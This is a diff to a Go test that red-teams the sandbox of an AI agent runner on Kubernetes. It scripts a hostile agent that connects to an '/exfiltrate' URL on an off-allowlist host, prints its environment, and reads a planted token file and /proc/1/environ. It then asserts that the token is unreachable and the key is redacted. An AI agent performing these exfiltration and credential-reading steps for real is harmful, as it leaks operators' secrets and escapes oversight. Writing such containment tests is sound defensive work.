@@ -9,6 +9,8 @@ import (
 	"net/http/httptest"
 	"os"
 	"path/filepath"
+	"regexp"
+	"strings"
 	"sync/atomic"
 	"testing"
 	"time"
@@ -100,13 +102,20 @@ func TestRedTeamEgressKubernetes(t *testing.T) {
 	providerHost, _, _ := net.SplitHostPort(provider)
 	require.Equal(t, providerHost+"/32", np.Spec.Egress[1].To[0].IPBlock.CIDR)
 
+	// A file of Alfred's on the state claim, outside the run's own paths: the Pod mounts only
+	// those (sub-paths), so neither this path nor the claim's root is in its file system.
+	alfredFile := filepath.Join(root, "alfred-own", "forge_token")
+	require.NoError(t, os.MkdirAll(filepath.Dir(alfredFile), 0o755))
+	require.NoError(t, os.WriteFile(alfredFile, []byte("forge-token-of-alfred-k8s\n"), 0o644))
 	agent, err := script.NewFromBytes(agentImage, []byte(fmt.Sprintf(`
 development:
   summary: Did what the issue said.
   commit_message: "Add the export"
   connect: [%q, %q]
   dial: [%q]
-`, "http://"+provider+"/v1/messages", "http://"+offList+"/exfiltrate", offList)))
+  print_env: true
+  read_files: [%q, /proc/1/environ]
+`, "http://"+provider+"/v1/messages", "http://"+offList+"/exfiltrate", offList, alfredFile)))
 	require.NoError(t, err)
 	ex, err := runner.NewExecutor(runner.Config{Runtime: rt,
 		Agents:   map[string]runner.Agent{script.Name: keyedScript{Agent: agent, key: canaryAgentKey, provider: provider}},
@@ -114,7 +123,8 @@ development:
 		DataDir:  root, UID: runtimetest.ImageUID, GID: runtimetest.ImageGID, Instance: instance,
 		Timeout: 3 * time.Minute, StopGrace: time.Second,
 		// As cmd/alfred on Kubernetes: the allowlist, no proxy (the NetworkPolicy holds it).
-		Egress: &runner.EgressPolicy{}})
+		Egress: &runner.EgressPolicy{},
+		Redact: func(s string) string { return strings.ReplaceAll(s, canaryAgentKey, "[redacted]") }})
 	require.NoError(t, err)
 	wt := filepath.Join(root, "worktree")
 	require.NoError(t, os.MkdirAll(wt, 0o777))
@@ -133,6 +143,11 @@ development:
 	// Kubernetes has no per-run refusal count: the firewall drops on the node, unseen by
 	// Alfred (spec/security.md). The agent's own lines above are what the run's page shows.
 	require.Empty(t, out.EgressRefused)
+	// Alfred's file is not in the Pod, and the key the agent printed is censored.
+	require.NotContains(t, log, "forge-token-of-alfred-k8s")
+	require.Regexp(t, `read `+regexp.QuoteMeta(alfredFile)+`: error: `, log)
+	require.NotContains(t, log, canaryAgentKey)
+	require.Contains(t, log, "[redacted]", "the environment was printed, with the key")
 
 	// Fail closed: a gate whose target the policy allows never sees its egress filtered; the
 	// run's agent never starts, and Start says why.
